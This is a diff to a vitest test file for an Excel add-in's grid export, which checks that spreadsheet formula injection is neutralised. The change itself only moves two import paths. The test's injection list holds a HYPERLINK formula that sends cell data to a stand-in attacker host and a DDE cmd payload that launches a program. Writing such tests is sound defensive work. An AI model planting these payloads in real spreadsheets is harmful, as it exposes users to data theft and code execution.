@@ -1,7 +1,7 @@
 /** toExcelGrid / excelText: what is sent to Excel (formula injection impossible by construction). */
 import { describe, expect, it } from 'vitest';
-import { excelText, toExcelGrid } from '../../../addin/board/excel-grid';
-import { numberFormats } from '../../../addin/board/number-formats';
+import { excelText, toExcelGrid } from '../../../addin/board/sheet/excel-grid';
+import { numberFormats } from '../../../addin/board/sheet/number-formats';
 import { excelStore } from '../../../addin/preview/excel-store';
 
 const injections = ['=HYPERLINK("https://evil.example/?d="&A1,"詳細")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A3)', '=1+1'];
